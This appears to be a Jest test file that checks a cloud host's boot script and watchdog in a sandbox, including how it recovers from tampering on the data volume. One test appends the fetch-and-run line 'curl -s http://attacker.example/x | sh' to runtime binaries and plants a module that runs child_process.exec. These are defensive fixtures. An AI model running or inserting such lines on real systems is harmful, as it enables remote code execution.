import * as fs from "node:fs";
import { hostContract } from "../../modules/host/contract";
import { memoryBudget } from "../../modules/host/memory";
import { CONFIG_ERROR_STATUS } from "../../modules/host/tools";
import { renderUnits } from "../../modules/host/units";
import { requireInCi, testSettings } from "../helpers/settings";
import { BootSandbox, INSTANCE_ID, sandboxProblem } from "../helpers/sandbox";
import type { AwsCliCall } from "../helpers/fake-cloud";

/**
 * A host that survives its own changes (issue 12, point 3): the real rendered boot script and
 * watchdog in the bubblewrap sandbox (helpers/sandbox.ts), over a data volume an earlier host
 * prepared differently: another CPU architecture, a planted symbolic link, a grown volume, old runtimes.
 */
const canRun = requireInCi(sandboxProblem(), "the boot-script survival sandbox tests");
const describeSandbox = canRun ? describe : describe.skip;
jest.setTimeout(300_000);

const settings = testSettings({ hostOs: "debian12" }); // t4g.small: arm64
const arm = hostContract(settings);
/** The pinned Traefik version (its downloads and runtime directory names). */
const T = settings.versions.traefik;
const x86Settings = testSettings({ hostOs: "debian12", instanceType: "t3.small" });
const x86 = hostContract(x86Settings);
const health = (calls: AwsCliCall[]) => calls.filter((c) => c.operation === "set-instance-health");
const runtimeListing = (sb: BootSandbox) => fs.readdirSync(sb.host(arm.runtimeDir)).sort();

describeSandbox("boot script in a sandbox: a volume prepared by another host", () => {
  let sb: BootSandbox;
  afterEach(() => sb?.dispose());

  test("architecture switch (t4g → t3): Node, openclaw and Traefik are installed afresh for x86_64; the arm64 ones stay as the previous; a tree that differs from the pinned manifest is compared with a fresh install, not reinstalled", () => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    sb.clearRecords();
    sb.useSettings(x86Settings);
    const result = sb.boot();
    expect(result.status).toBe(0);
    expect(sb.lines("downloads.log")).toEqual([
      "GET /node/v24.21.0/SHASUMS256.txt", "GET /node/v24.21.0/node-v24.21.0-linux-x64.tar.xz",
      `GET /traefik/v${T}/traefik_v${T}_checksums.txt`, `GET /traefik/v${T}/traefik_v${T}_linux_amd64.tar.gz`,
    ]);
    expect(sb.lines("npm.log")).toEqual([expect.stringMatching(/^uid=65534 ci --ignore-scripts /), expect.stringMatching(/^uid=65534 rebuild openclaw /)]);
    expect(fs.existsSync(sb.host(`${x86.openclawPrefix}/lib/node_modules/openclaw/package.json`))).toBe(true);
    expect(sb.bootLog()).toContain("installed openclaw 2026.9.6");
    const unit = fs.readFileSync(sb.host(`/etc/systemd/system/${x86.gatewayUnit}`), "utf8");
    expect(unit).toContain(`ExecStart=${x86.nodeBin} ${x86.openclawEntry} gateway run\n`);
    expect(runtimeListing(sb)).toEqual([".current", ".previous",
      "node-v24.21.0-arm64", "node-v24.21.0-x86_64", "openclaw-2026.9.6-arm64", "openclaw-2026.9.6-x86_64", `traefik-v${T}-arm64`, `traefik-v${T}-x86_64`,
      // Each release's verified archive, kept next to its tree (re-checked at every boot).
      "node-v24.21.0-linux-arm64.tar.xz", "node-v24.21.0-linux-x64.tar.xz", `traefik_v${T}_linux_amd64.tar.gz`, `traefik_v${T}_linux_arm64.tar.gz`].sort());
    expect(sb.lines("systemctl.log")).toContain("restart openclaw-gateway.service");
    // x86_64 has a pinned manifest of the real openclaw tree (SHIPPED_PINS.openclawTree); the sandbox's fake tree is not
    // that tree, which is what a pin that a real install does not reproduce looks like: the next boot still compares
    // the tree with a fresh offline install of the lock, finds it equal and keeps it (time lost, never correctness).
    sb.clearRecords();
    expect(sb.boot().status).toBe(0);
    expect(sb.bootLog()).toContain(`${x86.openclawPrefix}/lib differs from its pinned manifest: comparing it with a fresh install of its lock`);
    expect(sb.bootLog()).toContain("openclaw 2026.9.6 on the volume matches a fresh install of its lock");
    expect(sb.bootLog()).not.toContain("REINSTALLING");
    expect(sb.lines("npm.log")).toEqual([expect.stringMatching(/^uid=65534 ci --offline --ignore-scripts /), expect.stringMatching(/^uid=65534 rebuild openclaw /)]);
  });

  test("old runtimes: the previous boot's are kept for a rollback, older ones and interrupted installs removed", () => {
    sb = new BootSandbox(settings);
    const previous = ["node-v24.20.0-arm64", "openclaw-2026.8.1-arm64", "traefik-v3.5.0-arm64"];
    for (const dir of [...previous, "node-v22.0.0", "openclaw-2026.1.1", "openclaw-2026.9.6-arm64.partial"]) {
      fs.mkdirSync(sb.host(`${arm.runtimeDir}/${dir}`), { recursive: true });
    }
    fs.writeFileSync(sb.host(arm.runtimesCurrentList), `${previous.join("\n")}\n`);
    expect(sb.boot().status).toBe(0);
    expect(runtimeListing(sb)).toEqual([".current", ".previous", "node-v24.20.0-arm64", "node-v24.21.0-arm64",
      "openclaw-2026.8.1-arm64", "openclaw-2026.9.6-arm64", "traefik-v3.5.0-arm64", `traefik-v${T}-arm64`,
      "node-v24.21.0-linux-arm64.tar.xz", `traefik_v${T}_linux_arm64.tar.gz`].sort());
    expect(fs.readFileSync(sb.host(arm.runtimesPreviousList), "utf8")).toBe(`${previous.join("\n")}\n`);
    expect(sb.bootLog()).toContain(`pruned ${arm.runtimeDir}/node-v22.0.0 (neither the current nor the previous runtime)`);
  });

  /** Issue 13, item 6: what a root attacker changed on the volume is undone by the next host's boot. */
  test("a trojaned Node binary, Traefik binary and openclaw file on the volume are found and reinstalled at the next boot", () => {
    sb = new BootSandbox(settings);
    const first = sb.boot();
    expect(first.status).toBe(0);
    const original = (inside: string) => fs.readFileSync(sb.host(inside), "utf8");
    const [node, traefik, entry] = [arm.nodeBin, arm.traefikBin, arm.openclawEntry].map(original);
    const clean = sb.boot(); // a re-run on an untouched volume: the verification alone
    expect(clean.status).toBe(0);
    expect(sb.bootLog()).not.toContain("REINSTALLING");
    for (const file of [arm.nodeBin, arm.traefikBin, arm.openclawEntry]) fs.appendFileSync(sb.host(file), "\ncurl -s http://attacker.example/x | sh\n");
    fs.mkdirSync(sb.host(`${arm.dataMount}/node_modules/left-pad`), { recursive: true });
    fs.writeFileSync(sb.host(`${arm.dataMount}/node_modules/left-pad/index.js`), "require('child_process').exec('id')\n");
    sb.clearRecords();
    const next = sb.boot();
    expect(next.status).toBe(0);
    const log = sb.bootLog();
    expect(log).toContain("REINSTALLING Node.js 24.21.0 from its verified archive: the tree on the volume changed");
    expect(log).toContain(`REINSTALLING Traefik ${T} from its verified archive: the tree on the volume changed`);
    expect(log).toContain(`${arm.openclawPrefix}/lib differs from a fresh install of its lock`);
    expect(log).toContain("REINSTALLING openclaw 2026.9.6 from its lock: the install on the volume is incomplete or changed");
    expect(log).toContain(`REMOVED ${arm.dataMount}/node_modules: Node would resolve modules from it`);
    expect([arm.nodeBin, arm.traefikBin, arm.openclawEntry].map(original)).toEqual([node, traefik, entry]);
    expect(fs.existsSync(sb.host(`${arm.dataMount}/node_modules`))).toBe(false);
    // Node and Traefik come back from their kept, re-verified archives: no download.
    expect(sb.lines("downloads.log")).toEqual([]);
    const after = sb.boot();
    expect(after.status).toBe(0);
    expect(sb.bootLog().split("==> start").at(-2)).not.toContain("REINSTALLING");
    // eslint-disable-next-line no-console
    console.log(`runtime re-verification (sandbox, fake runtimes): first boot ${first.ms.toFixed(0)} ms, untouched re-run ${clean.ms.toFixed(0)} ms, `
      + `re-run with three trojans ${next.ms.toFixed(0)} ms`);
  });

  test("a changed archive on the volume (tampered with its tree) is downloaded again, checked against the pin", () => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    fs.appendFileSync(sb.host(arm.nodeArchive), "x");
    fs.appendFileSync(sb.host(arm.nodeBin), "\nevil\n");
    sb.clearRecords();
    expect(sb.boot().status).toBe(0);
    expect(sb.bootLog()).toContain("REINSTALLING Node.js 24.21.0: its archive on the volume fails the check");
    expect(sb.lines("downloads.log")).toEqual(["GET /node/v24.21.0/SHASUMS256.txt", "GET /node/v24.21.0/node-v24.21.0-linux-arm64.tar.xz"]);
    expect(fs.readFileSync(sb.host(arm.nodeBin), "utf8")).not.toContain("evil");
  });

  test("acme.json planted as a symbolic link to a root-owned file: the link is removed, the target keeps its owner and mode", () => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    // The traefik user owns the directory: it can replace acme.json with a link to anything.
    fs.writeFileSync(sb.host("/etc/openclaw-root-only"), "root's\n", { mode: 0o640 });
    fs.rmSync(sb.host(arm.acmeStorage));
    fs.symlinkSync("/etc/openclaw-root-only", sb.host(arm.acmeStorage));
    const result = sb.boot();
    expect(result.status).toBe(0);
    expect(sb.stat("/etc/openclaw-root-only")).toEqual({ mode: "640", user: "root", group: "root" });
    expect(fs.lstatSync(sb.host(arm.acmeStorage)).isSymbolicLink()).toBe(false);
    expect(sb.stat(arm.acmeStorage)).toEqual({ mode: "600", user: "traefik", group: "traefik" });
    expect(sb.bootLog()).toContain(`${arm.acmeStorage} is a symbolic link (to /etc/openclaw-root-only); removed the link, its target is left as it is`);
  });

  test("the data volume is mounted nosuid,nodev", () => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    expect(sb.lines("block.log")).toContain("mount -o noatime,nosuid,nodev /fake/state/nvme1n1 /opt/openclaw");
    expect(fs.readFileSync(sb.host("/etc/fstab"), "utf8")).toMatch(/ \/opt\/openclaw ext4 defaults,nofail,noatime,nosuid,nodev 0 2$/m);
  });

  test("a grown volume (10 → 20 GiB): the mounted filesystem is grown online, once, sizes logged", () => {
    sb = new BootSandbox(settings);
    sb.formatDataVolume();
    fs.writeFileSync(sb.host("/fake/state/size-nvme1n1"), String(20 * 2 ** 30));
    expect(sb.boot().status).toBe(0);
    expect(sb.lines("block.log").filter((l) => l.startsWith("resize2fs"))).toEqual(["resize2fs /fake/state/nvme1n1"]);
    const log = sb.bootLog();
    expect(log).toContain("the filesystem on /fake/state/nvme1n1 has 10737418240 of the device's 21474836480 bytes; growing it online");
    expect(log).toContain("the filesystem on /fake/state/nvme1n1 now has 21474836480 bytes");
    expect(log.indexOf("mounted /fake/state/nvme1n1")).toBeLessThan(log.indexOf("growing it online")); // online: mounted first
    sb.clearRecords();
    expect(sb.boot().status).toBe(0);
    expect(sb.lines("block.log").filter((l) => l.startsWith("resize2fs"))).toEqual([]);
  });

  test("swap: a file on the root disk, created and switched on once, before openclaw's install; kept in fstab", () => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    const { swapMiB } = memoryBudget(settings.instanceType);
    expect(sb.lines("swap.log")).toEqual([`fallocate -l ${swapMiB}M /var/swapfile`, "mkswap /var/swapfile", "swapon /var/swapfile"]);
    expect(sb.stat(arm.swapFile)).toMatchObject({ mode: "600", user: "root" });
    expect(fs.readFileSync(sb.host("/etc/fstab"), "utf8")).toContain("\n/var/swapfile none swap sw,nofail 0 0\n");
    const log = sb.bootLog();
    expect(log.indexOf("==> swap file")).toBeLessThan(log.indexOf("==> install openclaw"));
    sb.clearRecords();
    expect(sb.boot().status).toBe(0);
    expect(sb.lines("swap.log")).toEqual([]);
  });

  test("Debian: http:// Debian mirrors in apt's sources become https:// (443 is the only egress) before apt-get runs", () => {
    sb = new BootSandbox(settings);
    fs.mkdirSync(sb.host("/etc/apt/sources.list.d"), { recursive: true });
    fs.writeFileSync(sb.host("/etc/apt/sources.list.d/debian.sources"),
      "Types: deb\nURIs: http://cdn-aws.deb.debian.org/debian\nSuites: bookworm bookworm-updates\nComponents: main\n");
    sb.hideCommand("jq");
    expect(sb.boot().status).toBe(0);
    expect(fs.readFileSync(sb.host("/etc/apt/sources.list.d/debian.sources"), "utf8")).toContain("URIs: https://cdn-aws.deb.debian.org/debian\n");
    const log = sb.bootLog();
    expect(log.indexOf("/etc/apt/sources.list.d/debian.sources now use HTTPS")).toBeGreaterThan(-1);
    expect(log.indexOf("now use HTTPS")).toBeLessThan(log.indexOf("installing jq"));
    expect(sb.lines("packages.log").filter((l) => l.startsWith("apt-get"))).toEqual(["apt-get update -q", "apt-get install -y -q jq"]);
  });
});

describeSandbox("watchdog in a sandbox: maintenance switch, liveness body, config error", () => {
  let sb: BootSandbox;
  const n = settings.watchdog.failuresBeforeReplacement;
  // Under the watchdog unit's own /proc (ProcSubset=), as systemd runs it.
  const unit = renderUnits(settings, arm)[arm.watchdogServiceUnit];
  const loop = (times: number) => sb.run(["/bin/bash", "-c", `for i in $(seq ${times}); do ${arm.watchdogTool} || echo "exit $?"; done`], undefined, unit);
  const status = () => fs.readFileSync(sb.host(arm.watchdogStatusFile), "utf8");

  beforeAll(() => {
    sb = new BootSandbox(settings);
    expect(sb.boot().status).toBe(0);
    sb.endStartWindow(); // these checks model a gateway past its start
  });
  afterAll(() => sb?.dispose());
  beforeEach(() => {
    sb.setGateway("up");
    expect(loop(1).status).toBe(0); // healthy: the streak and the reported marker are reset
    fs.rmSync(sb.host(`/fake/state/unit-${arm.gatewayUnit}`), { force: true });
    sb.clearRecords();
  });

  test("maintenance switch on: a stopped gateway is not checked and the host not replaced; off: checks resume", () => {
    fs.writeFileSync(sb.host(arm.maintenanceFile), "");
    sb.setGateway("down");
    const paused = loop(n + 3);
    expect(health(sb.awsCalls())).toEqual([]);
    expect(sb.lines("gateway.log")).toEqual([]);
    expect(paused.output).toContain(`maintenance switch ${arm.maintenanceFile} is on`);
    expect(status()).toMatch(/ maintenance\n$/);
    fs.rmSync(sb.host(arm.maintenanceFile));
    loop(n);
    expect(health(sb.awsCalls())).toHaveLength(1);
  });

  test("a 200 that is not openclaw's liveness body (an HTML page) counts as a failure: replaced after N", () => {
    sb.setGateway("html");
    const result = loop(n);
    expect(health(sb.awsCalls())).toHaveLength(1);
    expect(health(sb.awsCalls())[0].argv).toEqual(["autoscaling", "set-instance-health", "--cli-connect-timeout", "10", "--cli-read-timeout", "30", "--instance-id", INSTANCE_ID, "--health-status", "Unhealthy", "--no-should-respect-grace-period"]);
    expect(result.output).toContain(`failed (${n} consecutive; replacement after ${n})`);
    expect(status()).toContain(`replacing: marked ${INSTANCE_ID} Unhealthy`);
  });

  test(`the gateway stopped with its config-error status (${CONFIG_ERROR_STATUS}): reported (log, status file), never replaced`, () => {
    sb.setGateway("down");
    fs.writeFileSync(sb.host(`/fake/state/unit-${arm.gatewayUnit}`), `ActiveState=failed\nExecMainStatus=${CONFIG_ERROR_STATUS}\n`);
    const result = loop(n + 3);
    expect(health(sb.awsCalls())).toEqual([]);
    expect(result.output).toContain(`ALERT: ${arm.gatewayUnit} stopped with status ${CONFIG_ERROR_STATUS} (configuration error)`);
    expect(status()).toContain(`config-error: ${arm.gatewayUnit} exited with status ${CONFIG_ERROR_STATUS}; not replacing the host`);
  });
});
